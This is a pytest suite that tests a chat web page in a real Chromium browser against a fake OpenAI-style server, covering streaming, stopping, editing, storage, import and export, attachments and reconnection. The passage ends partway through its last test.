"""The chat page in a real Chromium, against a server whose answers the tests write."""

import base64
import json
import random
import re
import struct
import time
import zlib
from collections.abc import Iterator
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import pytest
from support.browser import CHROMEDRIVER, Browser, BrowserError
from support.fake_openai import CUT, FakeOpenAI, Step, text_answer, the_end

from fastinfer.server.page import load_page

pytestmark = [pytest.mark.slow, pytest.mark.skipif(CHROMEDRIVER is None, reason="Debian's chromium-driver is missing")]

DONE = "document.querySelector('#stop').hidden && document.querySelector('.message:last-child .stats')"
LAST = ".message:last-child > .markdown"


@pytest.fixture(scope="module")
def window() -> Iterator[Browser]:
    browser = Browser()
    yield browser
    browser.close()


@pytest.fixture
def server() -> Iterator[FakeOpenAI]:
    fake = FakeOpenAI()
    yield fake
    fake.close()


@pytest.fixture
def page(window: Browser, server: FakeOpenAI) -> Browser:
    """The page, opened for the first time: each server has a port of its own, and with it an empty storage."""
    window.resize(1280, 800)
    open_page(window, server)
    window.console()
    return window


def open_page(page: Browser, server: FakeOpenAI) -> None:
    page.open(server.url)
    page.wait("document.querySelector('#model').options.length")


def ask(page: Browser, text: str, done: str = DONE) -> None:
    page.type("#input", text)
    page.press("Enter")
    page.wait(done)


def visible(page: Browser, selector: str) -> bool:
    return bool(page.run("return document.querySelector(arguments[0])?.checkVisibility() ?? false", selector))


# ---- Use ----


def test_an_answer_streams_in(page: Browser, server: FakeOpenAI) -> None:
    def answer(request: dict[str, Any]) -> Iterator[Step]:
        yield {"delta": {"role": "assistant", "content": ""}}
        yield {"delta": {"content": "Hello "}}
        while not released:
            yield 0.01
        yield {"delta": {"content": "**you**."}}
        yield from the_end(prompt_tokens=12, completion_tokens=34)

    released: list[bool] = []
    server.answer = answer
    ask(page, "Hi", f"document.querySelector('{LAST}')?.textContent === 'Hello'")
    assert visible(page, "#stop")
    assert not visible(page, "#send")
    released.append(True)
    page.wait(DONE)
    assert page.run(f"return document.querySelector('{LAST}').innerHTML") == "<p>Hello <strong>you</strong>.</p>"
    assert page.text(".message.user .bubble") == "Hi"
    assert page.text(".stats").startswith("toy-135m · 34 tokens · ")
    assert "first after" in page.text(".stats")
    assert page.text("#gauge-text") == "46 / 2,048"
    assert visible(page, "#send")
    assert page.text("#status") == "The answer is complete"
    (request,) = server.requests
    assert request["messages"] == [{"role": "user", "content": "Hi"}]
    assert (request["model"], request["stream"]) == ("toy-135m", True)
    assert page.console() == []


def test_stop_aborts_the_request_and_keeps_the_text(page: Browser, server: FakeOpenAI) -> None:
    server.answer = lambda request: text_answer("word " * 10_000, 5, 0.01)
    ask(page, "Count", f"document.querySelector('{LAST}')?.textContent.length > 20")
    page.click("#stop")
    page.wait(DONE)
    assert page.text(LAST).startswith("word word")
    deadline = time.monotonic() + 10
    while not server.num_disconnects and time.monotonic() < deadline:
        time.sleep(0.01)
    assert server.num_disconnects == 1
    assert not visible(page, ".failure")
    assert page.text("#status") == "Stopped"
    assert visible(page, '[aria-label="Continue this answer"]')


def test_escape_stops_and_an_empty_box_edits_the_last_message(page: Browser, server: FakeOpenAI) -> None:
    server.answer = lambda request: text_answer("word " * 10_000, 5, 0.01)
    ask(page, "First", f"document.querySelector('{LAST}')?.textContent.length > 20")
    page.press("Escape")
    page.wait(DONE)
    page.press("Up")
    assert page.run("return document.activeElement.value") == "First"
    page.press("Escape")
    assert page.text(".bubble") == "First"


def test_escape_empties_the_search_before_it_stops(page: Browser, server: FakeOpenAI) -> None:
    server.answer = lambda request: text_answer("word " * 10_000, 5, 0.01)
    ask(page, "First", f"document.querySelector('{LAST}')?.textContent.length > 20")
    page.click("#search")
    page.type("#search", "x")
    page.press("Escape")
    assert page.run("return document.querySelector('#search').value") == ""
    assert visible(page, "#stop")
    page.press("Escape")
    page.wait(DONE)


def test_versions_of_answers_and_of_questions(page: Browser, server: FakeOpenAI) -> None:
    numbers = iter(range(1, 10))
    server.answer = lambda request: text_answer(f"Answer {next(numbers)}.")
    ask(page, "One")
    page.click('[aria-label="Answer again"]')
    page.wait(f"{DONE} && document.querySelector('{LAST}').textContent === 'Answer 2.'")
    assert "2/2" in page.text(".message:last-child .tools")
    page.click('.message:last-child [aria-label="Previous version"]')
    assert page.text(LAST) == "Answer 1."
    ask(page, "Two", f"document.querySelectorAll('.message').length === 4 && {DONE}")
    assert [m["content"] for m in server.requests[-1]["messages"]] == ["One", "Answer 1.", "Two"]
    page.run("document.querySelector('.message.user [aria-label=Edit]').click()")
    page.type(".edit textarea", " more")
    page.press("Enter")
    page.wait(f"document.querySelectorAll('.message').length === 2 && {DONE}")
    assert [m["content"] for m in server.requests[-1]["messages"]] == ["One more"]
    page.run("document.querySelector('.message.user [aria-label=\"Previous version\"]').click()")
    page.wait("document.querySelectorAll('.message').length === 4")
    assert page.text(".bubble") == "One"


def test_reasoning_is_folded_once_the_answer_begins(page: Browser, server: FakeOpenAI) -> None:
    def answer(request: dict[str, Any]) -> Iterator[Step]:
        yield {"delta": {"reasoning_content": "Let me *think*."}}
        while not released:
            yield 0.01
        yield {"delta": {"content": "Done."}}
        yield from the_end()

    released: list[bool] = []
    server.answer = answer
    ask(page, "Hi", "document.querySelector('details.reasoning[open] em')")
    released.append(True)
    page.wait(DONE)
    assert not page.run("return document.querySelector('details.reasoning').open")
    assert page.text("summary").startswith("Thought for")
    assert page.text(LAST) == "Done."


def test_tool_calls_are_shown(page: Browser, server: FakeOpenAI) -> None:
    def call(index: int, **function: str) -> Step:
        return {"delta": {"tool_calls": [{"index": index, "function": function}]}}

    server.answer = lambda request: [
        {"delta": {"content": "I look."}},
        {"delta": {"tool_calls": [{"index": 0, "id": "c1", "type": "function", "function": {"name": "weather"}}]}},
        call(0, arguments='{"city": "<b>Par'),
        call(0, arguments='is</b>"}'),
        call(1, name="time", arguments='{"half'),
        call(7, name="left out"),
        *the_end("tool_calls"),
    ]
    ask(page, "Hi")
    shown = "[...document.querySelectorAll('.calls details')].map((n) => n.querySelector('summary').textContent)"
    assert page.run(f"return {shown}") == ["Tool call: weather", "Tool call: time"]
    assert page.text(".calls code") == '{\n  "city": "<b>Paris</b>"\n}\n'
    assert page.text(LAST) == "I look."
    open_page(page, server)
    page.wait("document.querySelector('#list .title')")
    page.click("#list .title")
    assert page.run(f"return {shown}") == ["Tool call: weather", "Tool call: time"]
    assert not visible(page, '[aria-label="Continue this answer"]')
    server.answer = lambda request: text_answer("Sunny.")
    ask(page, "It is sunny", f"document.querySelectorAll('.message').length === 4 && {DONE}")
    texts = [message["content"] for message in server.requests[-1]["messages"]]
    assert texts[1].startswith('I look.\n\nweather({"city"')


def test_a_server_that_is_not_ready_is_asked_again(page: Browser, server: FakeOpenAI) -> None:
    server.limit = None
    open_page(page, server)
    server.limit = 2048
    server.refusals = ["the model is being loaded"] * 2
    ask(page, "Hi", "document.querySelector('.stats')?.textContent.includes('being loaded. Trying again')")
    assert page.text("#status") == "The model is being loaded. Trying again"
    page.wait(DONE)
    assert page.text(LAST) == "Hello."
    assert not visible(page, ".failure")
    page.wait("document.querySelector('#gauge-text').textContent === '150 / 2,048'")
    assert float(re.findall("first after (.*) s", page.text(".stats"))[0]) < 1, "the wait does not count"
    server.refusals = ["the queue is full"] * 50
    ask(page, "Again", "document.querySelector('.message:last-child .stats')?.textContent.includes('queue is full')")
    page.click("#stop")
    page.wait(DONE)
    assert page.text("#status") == "Stopped"
    assert len(server.refusals) > 45


def test_the_speed_is_shown_while_the_answer_is_written(page: Browser, server: FakeOpenAI) -> None:
    def answer(request: dict[str, Any]) -> Iterator[Step]:
        usage = {"prompt_tokens": 10, "completion_tokens": 3}
        yield {"delta": {"content": "Hello "}, "usage": usage}
        while not released:
            yield 0.01
        yield from the_end()

    released: list[bool] = []
    server.answer = answer
    ask(page, "Hi", "document.querySelector('.message:last-child .stats')?.textContent.includes('3 tokens')")
    assert server.requests[0]["stream_options"] == {"include_usage": True, "continuous_usage_stats": True}
    page.click("#stop")
    page.wait(DONE)
    released.append(True)
    assert page.text("#gauge-text") == "13 / 2,048"  # known although the answer has no end


def test_the_view_follows_the_answer_until_the_reader_scrolls_up(page: Browser, server: FakeOpenAI) -> None:
    def answer(request: dict[str, Any]) -> Iterator[Step]:
        for number in range(80):
            yield {"delta": {"content": f"## Part {number}\n\n```\n" + "line\n" * 12 + "```\n\n"}}
            yield 0.01
            while number == 40 and not released:
                yield 0.01
        yield from the_end()

    rest = "document.querySelector('#scroll').scrollHeight - document.querySelector('#scroll').scrollTop - innerHeight"
    released: list[bool] = []
    server.answer = answer
    ask(page, "Hi", f"document.querySelector('{LAST}')?.textContent.includes('Part 40')")
    page.wait(f"{rest} < 0 && !document.querySelector('#down').checkVisibility()")
    page.run("document.querySelector('#scroll').scrollBy(0, -700)")
    page.wait("document.querySelector('#down').checkVisibility()")
    place = page.run("return document.querySelector('#scroll').scrollTop")
    released.append(True)
    page.wait(DONE)
    assert abs(page.run("return document.querySelector('#scroll').scrollTop") - place) < 5
    page.click("#down")
    page.wait(f"{rest} < 0 && !document.querySelector('#down').checkVisibility()")


def test_the_view_stays_when_the_reader_unfolds_or_edits(page: Browser, server: FakeOpenAI) -> None:
    answer = text_answer("A line.\n\n" * 30, 300)
    server.answer = lambda request: [{"delta": {"reasoning_content": "Hm.\n\n" * 30}}, *answer]
    ask(page, "Hi")
    page.run("document.querySelector('#scroll').scrollTop = 0")
    page.wait("document.querySelector('#down').checkVisibility()")
    page.click("#down")
    time.sleep(0.6)  # the heights have settled
    top = "document.querySelector('#scroll').scrollTop"
    place = page.run(f"return {top}")
    page.run("document.querySelector('details.reasoning').open = true")
    page.run("return new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
    assert page.run(f"return {top}") == place
    page.run("document.querySelector('.message.user [aria-label=Edit]').click()")
    page.run("return new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
    box = page.run("return document.querySelector('.edit').getBoundingClientRect().toJSON()")
    assert box["top"] >= 0
    assert box["bottom"] <= 800


def test_an_empty_message_is_not_sent(page: Browser, server: FakeOpenAI) -> None:
    assert page.run("return document.querySelector('#send').disabled")
    page.type("#input", "  ")
    page.press("Enter")
    assert page.run("return document.querySelector('#send').disabled")
    page.type("#input", "x")
    assert not page.run("return document.querySelector('#send').disabled")
    assert server.requests == []


def test_settings_are_sent(page: Browser, server: FakeOpenAI) -> None:
    page.click("#open-settings")
    page.type("[name=system]", "Be brief.")
    page.type("[name=temperature]", "0.5")
    page.type("[name=max_tokens]", "64")
    page.run("document.querySelector('[name=reasoning_effort]').value = 'low'")
    page.click("#settings button.main")
    ask(page, "Hi")
    (request,) = server.requests
    assert request["messages"][0] == {"role": "system", "content": "Be brief."}
    assert (request["temperature"], request["max_tokens"], request["reasoning_effort"]) == (0.5, 64, "low")
    assert "top_p" not in request
    page.run("document.querySelector('#model').value = 'my-lora'")
    ask(page, "Again", f"document.querySelectorAll('.message').length === 4 && {DONE}")
    assert server.requests[-1]["model"] == "my-lora"


def enter_key(window: Browser) -> None:
    """Type the key into the dialog that is open, and wait until the page has the models."""
    window.type("[name=key]", "secret-key")
    window.click("#settings button.main")
    window.wait("document.querySelector('#model').options.length")


def test_a_key_is_asked_for_and_forgotten_with_the_tab(window: Browser, server: FakeOpenAI) -> None:
    server.api_key = "secret-key"
    window.open(server.url)
    window.wait("document.querySelector('#settings').open")
    enter_key(window)
    ask(window, "Hi")
    assert window.text(LAST) == "Hello."
    assert window.run("return sessionStorage.getItem('fastinfer key')") == "secret-key"
    assert "secret-key" not in window.run("return JSON.stringify({...localStorage})")


def test_the_settings_survive_a_wrong_key(window: Browser, server: FakeOpenAI) -> None:
    """The dialog asks for the key by itself, and what it does not show would be lost."""
    server.api_key = "secret-key"
    window.open(server.url)
    window.wait("document.querySelector('#settings').open")
    window.type("[name=system]", "Be brief.")
    window.click("#settings button.main")
    window.open(server.url)
    window.wait("document.querySelector('#settings').open")
    enter_key(window)
    ask(window, "Hi")
    assert server.requests[0]["messages"][0] == {"role": "system", "content": "Be brief."}


def test_a_list_of_models_that_is_refused_is_reported(window: Browser, server: FakeOpenAI) -> None:
    server.api_key = "secret-key"
    window.open(server.url)
    window.wait("document.querySelector('#settings').open")
    assert window.text("#banner") == "wrong API key"
    assert visible(window, "#banner")
    enter_key(window)
    assert not visible(window, "#banner")


def test_an_error_of_the_server_is_shown(page: Browser, server: FakeOpenAI) -> None:
    server.answer = lambda request: [{"delta": {"content": "Half"}}, {"error": {"message": "out of <b>memory</b>"}}]
    ask(page, "Hi", "document.querySelector('.failure')")
    assert page.text(".failure") == "out of <b>memory</b>"
    assert page.text(LAST) == "Half"


def slow_answer(released: list[bool]) -> Iterator[Step]:
    """An answer that waits for its release between its two halves."""
    yield {"delta": {"content": "First half"}}
    while not released:
        yield 0.01
    yield {"delta": {"content": ", second half."}}
    yield from the_end()


@pytest.mark.parametrize("way", ["an edit", "a version", "the list"])
def test_an_answer_is_shown_to_its_end_although_the_thread_was_drawn_again(
    page: Browser, server: FakeOpenAI, way: str
) -> None:
    ask(page, "One")
    page.run("document.querySelector('.message.user [aria-label=Edit]').click()")
    page.type(".edit textarea", " more")
    released: list[bool] = []
    server.answer = lambda request: slow_answer(released)
    page.press("Enter")
    page.wait(f"document.querySelector('{LAST}')?.textContent === 'First half'")
    match way:
        case "an edit":
            page.run("document.querySelector('.message.user [aria-label=Edit]').click()")
            page.press("Escape")
        case "a version":
            for name in ("Previous version", "Next version"):
                page.run("document.querySelector(`.message.user [aria-label='${arguments[0]}']`).click()", name)
        case "the list":  # the answer is stopped
            page.click("#list .title")
            page.wait(DONE)
            assert page.text(LAST) == "First half"
            assert visible(page, '[aria-label="Continue this answer"]')
            return
    assert page.text(LAST) == "First half"
    released.append(True)
    page.wait(f"{DONE} && document.querySelector('{LAST}').textContent === 'First half, second half.'")


def test_only_the_last_answer_is_continued(page: Browser, server: FakeOpenAI) -> None:
    server.answer = lambda request: [{"delta": {"content": "One, two"}}, *the_end("length")]
    ask(page, "Count")
    assert visible(page, '[aria-label="Continue this answer"]')
    server.answer = lambda request: [{"error": {"message": "out of memory"}}]
    ask(page, "More", "document.querySelector('.failure')")
    assert not visible(page, '[aria-label="Continue this answer"]')


@pytest.mark.parametrize("key", ["Enter", "Escape"])
def test_keys_of_an_input_method_are_not_for_the_page(page: Browser, server: FakeOpenAI, key: str) -> None:
    """Browsers mark them by ``isComposing``, or by the code 229 alone."""
    press = """for (const fields of [{ isComposing: true }, { keyCode: 229 }])
        document.activeElement.dispatchEvent(new KeyboardEvent("keydown",
            { key: arguments[0], bubbles: true, cancelable: true, ...fields }));"""
    released: list[bool] = []
    server.answer = lambda request: slow_answer(released)
    ask(page, "Hi", f"document.querySelector('{LAST}')?.textContent === 'First half'")
    page.type("#input", "nihao")
    page.run(press, key)
    page.run("document.querySelector('.message.user [aria-label=Edit]').click()")
    page.run(press, key)
    assert page.run("return document.activeElement.ariaLabel") == "Edit message"
    released.append(True)
    page.wait(f"{DONE} && document.querySelector('{LAST}').textContent === 'First half, second half.'")
    assert len(server.requests) == 1


# ---- Conversations ----


def test_conversations_are_kept_searched_and_deleted(page: Browser, server: FakeOpenAI) -> None:
    server.answer = lambda request: text_answer("About " + request["messages"][-1]["content"])
    ask(page, "apples")
    page.click("#new")
    ask(page, "pears")
    page.type("#input", "a draft")
    open_page(page, server)
    page.wait("document.querySelectorAll('#list li').length === 2")
    page.click("#list li:last-child .title")
    assert page.text(LAST) == "About apples"
    page.type("#search", "about pear")
    assert page.run("return [...document.querySelectorAll('#list .title')].map((n) => n.textContent)") == ["pears"]
    page.click("#list .title")
    assert page.run("return document.querySelector('#input').value") == "a draft"
    page.run("setTimeout(() => document.querySelector('#list .remove').click())")
    deadline = time.monotonic() + 10
    while True:
        try:
            page.dismiss()
            break
        except BrowserError:
            assert time.monotonic() < deadline
    page.run("document.querySelector('#search').value = ''; showList()")
    assert page.run("return [...document.querySelectorAll('#list .title')].map((n) => n.textContent)") == ["apples"]
    open_page(page, server)
    page.wait("document.querySelectorAll('#list li').length === 1")


def test_a_conversation_that_is_deleted_while_it_is_answered_does_not_come_back(
    page: Browser, server: FakeOpenAI
) -> None:
    released: list[bool] = []
    server.answer = lambda request: slow_answer(released)
    ask(page, "Hi", f"document.querySelector('{LAST}')?.textContent === 'First half'")
    page.run("window.confirm = () => true")
    time.sleep(2.1)  # the next part of the answer would be saved
    page.run("document.querySelector('#list .remove').click()")
    page.wait("document.querySelector('#stop').hidden")
    open_page(page, server)
    assert page.run("return store((objects) => objects.getAll())") == []


def test_two_tabs_keep_what_each_has_added(page: Browser, server: FakeOpenAI) -> None:
    server.answer = lambda request: text_answer("About " + request["messages"][-1]["content"])
    ask(page, "apples")
    conversation = page.run("window.other = structuredClone(current); return other.id")
    ask(page, "pears", f"document.querySelectorAll('.message').length === 4 && {DONE}")
    # The other tab knows nothing of the pears.
    page.run("conversations.set(other.id, other); current = other; show()")
    assert page.run("return document.querySelectorAll('.message').length") == 2
    ask(page, "plums", f"document.querySelectorAll('.message').length === 4 && {DONE}")
    [kept] = page.run("return store((objects) => objects.getAll())")
    assert kept["id"] == conversation
    texts = {message["content"] for message in kept["messages"].values() if message["role"] == "user"}
    assert texts == {"apples", "pears", "plums"}


def test_a_storage_that_is_forbidden(page: Browser, server: FakeOpenAI) -> None:
    """The page works, keeps the settings and the key while it is open, and says that it keeps nothing longer."""
    script = """window.alerts = []; window.alert = (text) => alerts.push(text);
        for (const name of ["localStorage", "sessionStorage", "indexedDB"])
            Object.defineProperty(window, name, { get() { throw new DOMException("no", "SecurityError"); } });"""
    added = page.command("Page.addScriptToEvaluateOnNewDocument", {"source": script})
    try:
        open_page(page, server)
        page.click("#open-settings")
        page.type("[name=system]", "Be brief.")
        page.click("#settings button.main")
        ask(page, "One")
        ask(page, "Two", f"document.querySelectorAll('.message').length === 4 && {DONE}")
    finally:
        page.command("Page.removeScriptToEvaluateOnNewDocument", added)
    assert server.requests[1]["messages"][0] == {"role": "system", "content": "Be brief."}
    [alert] = page.run("return alerts")
    assert "are lost when this tab is closed" in alert


def test_a_draft_without_a_conversation_is_kept_once(page: Browser, server: FakeOpenAI) -> None:
    for _ in range(2):
        page.type("#input", "x")
        open_page(page, server)
    assert page.run("return document.querySelector('#input').value") == "xx"
    assert page.run("return Object.keys(localStorage).filter((key) => key.includes('draft')).length") == 1
    ask(page, " and more")
    page.type("#input", "next")
    page.run("window.confirm = () => true; document.querySelector('#list .remove').click()")
    assert page.run("return Object.keys(localStorage).filter((key) => key.includes('draft'))") == []


def test_export_and_import(page: Browser, server: FakeOpenAI) -> None:
    ask(page, "apples")
    page.run("URL.createObjectURL = (blob) => { window.exported = blob.text(); return '#'; }")
    page.click("#export")
    exported = json.loads(page.run("return window.exported"))
    assert {m["role"] for m in exported["conversations"][0]["messages"].values()} == {"user", "assistant"}
    page.run("return importFile(new File([arguments[0]], 'x.json'))", json.dumps(exported))
    assert page.run("return document.querySelectorAll('#list li').length") == 2
    page.click("#list li:first-child .title")
    page.wait(f"document.querySelector({LAST!r})?.textContent === 'Hello.'")


def test_a_large_import_draws_the_list_once(page: Browser) -> None:
    conversations = [{"title": f"Number {number}", "messages": {}} for number in range(100)]
    drawn = page.run(
        """const plain = window.showList;
        let drawn = 0;
        window.showList = () => { drawn += 1; plain(); };
        return importFile(new File([arguments[0]], "x")).then(() => drawn);""",
        json.dumps({"conversations": conversations}),
    )
    assert drawn == 1
    assert page.run("return document.querySelectorAll('#list li').length") == 100
    page.wait("store((objects) => objects.getAll()).then((kept) => kept.length === 100)")


ROOT = {"id": "", "parent": "", "role": "user", "content": ""}  # its own parent
ENDLESS = json.dumps({"conversations": [{"title": "", "messages": {"x": ROOT}}]})


@pytest.mark.parametrize(
    "text", ["", "[]", "{", '{"conversations": [{"title": 5}]}', '{"conversations": [null]}', ENDLESS]
)
def test_a_file_without_conversations_is_not_imported(page: Browser, text: str) -> None:
    page.run("window.alert = (text) => { window.alerted = text; }")
    page.run("return importFile(new File([arguments[0]], 'x.json'))", text)
    assert page.run("return window.alerted") == "This file contains no conversations."
    assert page.run("return document.querySelectorAll('#list li').length") == 0


def test_files_are_attached(page: Browser, server: FakeOpenAI) -> None:
    page.run(
        """window.alert = (text) => { window.alerted = text; };
        const data = new DataTransfer();
        data.items.add(new File(["one two"], "notes.txt"));
        data.items.add(new File(["a\\0b"], "binary.bin"));
        data.items.add(new File(["x".repeat((1 << 20) + 1)], "huge.txt"));
        document.querySelector("#main").dispatchEvent(
            new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
        const pasted = new DataTransfer();
        pasted.setData("text/plain", "y".repeat(5000));
        document.querySelector("#input").dispatchEvent(
            new ClipboardEvent("paste", { clipboardData: pasted, bubbles: true, cancelable: true }));"""
    )
    names = "[...document.querySelectorAll('#files .file')].map((n) => n.textContent).sort().join()"
    page.wait(f"{names} === 'Pasted text,notes.txt'")
    page.wait("window.alerted")
    reasons = [
        "binary.bin is neither a text file nor a PNG, JPEG, WebP, GIF or BMP image",
        "huge.txt is larger than 1 MB",
    ]
    assert page.run("return alerted").split("\n") == reasons
    page.click('[aria-label="Remove Pasted text"]')
    ask(page, "Summarise")
    assert server.requests[0]["messages"][0]["content"] == "File: notes.txt\n```\none two\n```\n\nSummarise"
    assert page.text(".message .file") == "notes.txt"


def attach_image(page: Browser, name: str, size: int | None = None) -> None:
    """Drop a PNG of 2 x 1 pixels on the page, or a file of some bytes that calls itself one."""
    page.run(
        """window.alerted = null;
        window.alert = (text) => { window.alerted = text; };
        const bytes = arguments[2] === null ? Uint8Array.fromBase64(arguments[1]) : new Uint8Array(arguments[2]);
        const data = new DataTransfer();
        data.items.add(new File([bytes], arguments[0], { type: "image/png" }));
        document.querySelector("#main").dispatchEvent(
            new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));""",
        name, base64.b64encode(png()).decode(), size,
    )  # fmt: skip


def png() -> bytes:
    """A PNG of 2 x 1 grey pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 1, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(b"\0\x40\x80")) + chunk(b"IEND", b"")


SHOWN = "document.querySelector(arguments[0])?.naturalWidth === 2"


def test_images_are_attached_if_the_model_reads_them(page: Browser, server: FakeOpenAI) -> None:
    server.modalities = ["text", "image"]
    open_page(page, server)
    attach_image(page, "huge.png", (20 << 20) + 1)
    page.wait("window.alerted === 'huge.png is too large: the images of a conversation may have 20 MB together'")
    attach_image(page, "cat.png")
    page.wait(SHOWN, "#files img")
    ask(page, "What is this?")
    url = f"data:image/png;base64,{base64.b64encode(png()).decode()}"
    image = {"type": "image_url", "image_url": {"url": url}}
    assert server.requests[-1]["messages"] == [
        {"role": "user", "content": [image, {"type": "text", "text": "What is this?"}]}
    ]
    attach_image(page, "cat.png")
    page.wait(SHOWN, "#files img")
    page.click("#send")
    page.wait(f"document.querySelectorAll('.message').length === 4 && {DONE}")
    assert server.requests[-1]["messages"][2] == {"role": "user", "content": [image]}
    attach_image(page, "rest.png", (20 << 20) - 2 * len(png()) + 1)
    page.wait("window.alerted?.startsWith('rest.png is too large')")
    # Exported and imported, images stay, but not those that would be fetched.
    page.run(
        """const copy = structuredClone(current);
        copy.title = "Copy";
        Object.values(copy.messages).findLast((message) => message.files).files[0].image = "https://example.com/x.png";
        return importFile(new File([JSON.stringify({ conversations: [copy] })], "x"));"""
    )
    page.click("#list li:first-child .title")
    page.wait("document.querySelector('#heading').textContent === 'Copy'")
    page.wait(SHOWN, ".message .file img")
    assert page.run("return document.querySelectorAll('.message .file').length") == 1
    assert page.console() == []


def test_models_of_text_alone_get_no_images(page: Browser, server: FakeOpenAI) -> None:
    attach_image(page, "cat.png")
    page.wait("window.alerted")
    assert page.run("return alerted") == "cat.png is an image, and this model reads text only"
    assert not visible(page, "#files")
    server.modalities = None  # not known before the model is loaded
    open_page(page, server)
    attach_image(page, "cat.png")
    page.wait(SHOWN, "#files img")


def test_a_message_waits_for_its_files(page: Browser, server: FakeOpenAI) -> None:
    page.run(
        """const file = new File(["one"], "notes.txt");
        file.text = () => new Promise((resolve) => { window.release = () => resolve("one"); });
        attach([file]);"""
    )
    page.type("#input", "Read this")
    assert page.run("return document.querySelector('#send').disabled")
    page.press("Enter")
    page.run("release()")
    page.wait("!document.querySelector('#send').disabled")
    assert server.requests == []
    page.press("Enter")
    page.wait(DONE)
    assert server.requests[0]["messages"][0]["content"] == "File: notes.txt\n```\none\n```\n\nRead this"


def test_attached_files_stay_with_their_conversation(page: Browser, server: FakeOpenAI) -> None:
    ask(page, "First")
    page.run("addFiles(draftName(current), [{ name: 'notes.txt', text: 'one' }])")
    page.run("document.querySelector('#new').click()")
    assert not visible(page, "#files")
    assert page.run("return document.querySelector('#send').disabled")
    page.click("#list li:first-child .title")
    assert page.text("#files .file") == "notes.txt"
    page.run("document.querySelector('#send').click()")
    page.wait(f"document.querySelectorAll('.message').length === 4 && {DONE}")
    assert server.requests[-1]["messages"][-1]["content"] == "File: notes.txt\n```\none\n```"
    assert not visible(page, "#files")
    # The text of a question may go, if it has files.
    page.run("document.querySelectorAll('.message.user')[1].querySelector('[aria-label=Edit]').click()")
    page.press("Enter")
    page.wait(f"document.querySelectorAll('.message.user .tools')[1].textContent.includes('2/2') && {DONE}")


@pytest.mark.parametrize(("name", "text", "is_attached"), [
    ("cells.png", "a\tb", False),  # spreadsheets add a picture of what is copied
    ("notes.txt", "notes.txt", True),  # file managers add the name
    ("cells.png", "", True),
])  # fmt: skip
def test_a_picture_of_a_copied_text_is_not_the_text(page: Browser, name: str, text: str, is_attached: bool) -> None:
    kind = "image/png" if name.endswith("png") else "text/plain"
    was_prevented = page.run(
        """window.attach = (list) => { window.attached = [...list].map((file) => file.name); };
        const pasted = new DataTransfer();
        pasted.items.add(new File(["x"], arguments[0], { type: arguments[1] }));
        if (arguments[2]) pasted.setData("text/plain", arguments[2]);
        return !document.querySelector("#input").dispatchEvent(
            new ClipboardEvent("paste", { clipboardData: pasted, bubbles: true, cancelable: true }));""",
        name, kind, text,
    )  # fmt: skip
    assert was_prevented is is_attached
    assert page.run("return window.attached ?? []") == ([name] if is_attached else [])


@pytest.mark.parametrize("is_allowed", [True, False])
def test_a_copy_button_says_what_happened(page: Browser, server: FakeOpenAI, is_allowed: bool) -> None:
    server.answer = lambda request: text_answer("```\nx\n```")
    ask(page, "Hi")
    page.run(
        """navigator.clipboard.writeText = async () => { if (!arguments[0]) throw new Error("no"); };
        const button = document.querySelector(".code button");
        button.click();
        button.click();""",
        is_allowed,
    )
    result = "Copied" if is_allowed else "Not allowed"
    page.wait(f"document.querySelector('.code button').textContent === '{result}'")
    page.wait("document.querySelector('.code button').textContent === 'Copy'")


def test_a_conversation_is_renamed(page: Browser, server: FakeOpenAI) -> None:
    ask(page, "apples")
    page.run("window.prompt = (text, old) => `${old} and pears`; document.querySelector('#list .rename').click()")
    assert page.text("#list .title") == "apples and pears"
    open_page(page, server)
    page.wait("document.querySelector('#list .title')?.textContent === 'apples and pears'")


def test_what_was_written_survives_a_closed_tab(page: Browser, server: FakeOpenAI) -> None:
    server.answer = lambda request: text_answer("word " * 10_000, 5, 0.01)
    ask(page, "Count", f"document.querySelector('{LAST}')?.textContent.length > 20")
    page.wait(
        "store((objects) => objects.getAll()).then(([conversation]) => "
        "Object.values(conversation.messages).some((message) => message.content.startsWith('word word')))"
    )
    open_page(page, server)
    page.wait("document.querySelector('#list li')")
    page.click("#list .title")
    assert page.text(LAST).startswith("word word")


def test_a_question_without_an_answer_can_be_answered(page: Browser, server: FakeOpenAI) -> None:
    message = {"id": "a", "parent": "", "role": "user", "content": "Hi"}
    conversation = {"title": "Asked", "messages": {"a": message}}
    page.run("return importFile(new File([arguments[0]], 'x'))", json.dumps({"conversations": [conversation]}))
    page.click("#list .title")
    page.run("document.querySelector('[aria-label=\"Answer this\"]').click()")
    page.wait(DONE)
    assert page.text(LAST) == "Hello."


def test_the_list_can_be_put_away(page: Browser, server: FakeOpenAI) -> None:
    ask(page, "apples")
    assert page.run("return document.querySelector('#list li').dataset.period") == "Today"
    assert page.run("return document.querySelector('#menu').ariaExpanded") == "true"
    page.click("#menu")
    assert not visible(page, "#side")
    open_page(page, server)
    assert not visible(page, "#side")
    assert page.run("return document.querySelector('#menu').ariaExpanded") == "false"
    page.press("Control", "k")
    assert page.run("return document.activeElement.id") == "search"


# ---- A server that goes away ----


def test_a_server_that_is_lost_and_comes_back(page: Browser, server: FakeOpenAI) -> None:
    server.answer = lambda request: [{"delta": {"content": "Half an"}}, 0.1, CUT]
    ask(page, "Hi", "document.querySelector('.failure')")
    assert page.text(LAST) == "Half an"
    page.wait("document.querySelector('#banner').hidden")  # it answered the next question about its health
    server.close()
    ask(page, "Are you there?", "!document.querySelector('#banner').hidden")
    assert "does not answer" in page.text("#banner")
    again = FakeOpenAI(server.port)
    try:
        page.wait("document.querySelector('#banner').hidden")
        assert page.text("#status") == "The server is back"
        page.click('.message:last-child [aria-label="Answer again"]')
        page.wait(f"{DONE} && document.querySelector('{LAST}').textContent === 'Hello.'")
        assert [m["content"] for m in again.requests[-1]["messages"]] == ["Hi", "Half an", "Are you there?"]
    finally:
        again.close()


def test_a_cut_answer_can_be_continued(page: Browser, server: FakeOpenAI) -> None:
    server.answer = lambda request: [{"delta": {"content": "One, two"}}, *the_end("length")]
    ask(page, "Count")
    server.answer = lambda request: text_answer(", three.")
    page.click('[aria-label="Continue this answer"]')
